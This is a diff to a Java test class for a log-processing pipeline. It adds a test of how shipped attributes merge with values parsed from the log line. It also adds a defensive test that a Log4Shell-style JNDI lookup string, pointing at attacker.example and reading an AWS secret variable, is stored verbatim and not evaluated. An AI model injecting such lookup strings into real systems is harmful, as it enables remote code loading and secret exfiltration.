@@ -146,6 +146,33 @@ class LogTopologyTest {
         assertThat(enriched.readValue().message()).isEqualTo("bad \uFFFD( end");
     }
 
+    @Test
+    void shouldFillGapsFromWhatTheShippingProtocolSaidButLetTheLineWin() {
+        RecordHeaders headers = new RecordHeaders();
+        SluiceHeaders.put(headers, SluiceHeaders.SERVICE, "loki-app");
+        SluiceHeaders.putAttributes(headers, new io.sluice.model.ShippedAttributes(Instant.parse("2026-11-22T09:00:00Z"),
+                "warning", "trace-from-otlp", "span-from-otlp", java.util.Map.of("k8s.pod", "web-1", "env", "shipped")));
+        raw.pipeInput(new TestRecord<>("loki-app", "{\"msg\":\"hi\",\"env\":\"line\"}".getBytes(StandardCharsets.UTF_8),
+                headers, RECEIVED));
+        raw.pipeInput(new TestRecord<>("loki-app", "2026-11-22T08:00:00Z ERROR own time and level"
+                .getBytes(StandardCharsets.UTF_8), headers, RECEIVED));
+
+        List<LogEvent> events = enriched.readValuesToList();
+        assertThat(events.get(0).timestamp()).isEqualTo(Instant.parse("2026-11-22T09:00:00Z"));
+        assertThat(events.get(0).level()).isEqualTo("WARN");
+        assertThat(events.get(0).traceId()).isEqualTo("trace-from-otlp");
+        assertThat(events.get(0).labels()).containsEntry("k8s_pod", "web-1").containsEntry("env", "line");
+        assertThat(events.get(1).timestamp()).isEqualTo(Instant.parse("2026-11-22T08:00:00Z"));
+        assertThat(events.get(1).level()).isEqualTo("ERROR");
+    }
+
+    @Test
+    void shouldStoreALookupStringVerbatim() {
+        send("jndi", "${jndi:ldap://attacker.example/a} ${env:AWS_SECRET}", "id-j");
+
+        assertThat(enriched.readValue().message()).isEqualTo("${jndi:ldap://attacker.example/a} ${env:AWS_SECRET}");
+    }
+
     private static String header(TestRecord<String, byte[]> record, String name) {
         return SluiceHeaders.text(record.headers(), name);
     }
